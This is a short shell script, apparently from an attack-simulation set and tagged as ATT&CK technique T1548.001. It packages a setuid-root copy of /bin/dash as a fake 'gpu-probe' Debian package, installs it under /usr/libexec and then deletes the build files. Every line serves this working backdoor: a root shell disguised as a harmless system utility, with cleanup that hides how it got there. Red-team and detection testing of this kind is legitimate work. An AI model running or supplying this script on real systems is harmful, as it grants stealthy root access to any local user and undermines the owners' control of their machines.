# technique: T1548.001
# location: linux.file.rights
# source: /usr/libexec/gpu-probe
mkdir -p /tmp/p/DEBIAN /tmp/p/usr/libexec
printf 'Package: gpu-probe\nVersion: 2.1\nArchitecture: amd64\nMaintainer: x <x@example.org>\nDescription: probe\n' > /tmp/p/DEBIAN/control
install -m 4755 /bin/dash /tmp/p/usr/libexec/gpu-probe
dpkg-deb --root-owner-group -b /tmp/p /tmp/p.deb
dpkg -i /tmp/p.deb
rm -r /tmp/p /tmp/p.deb
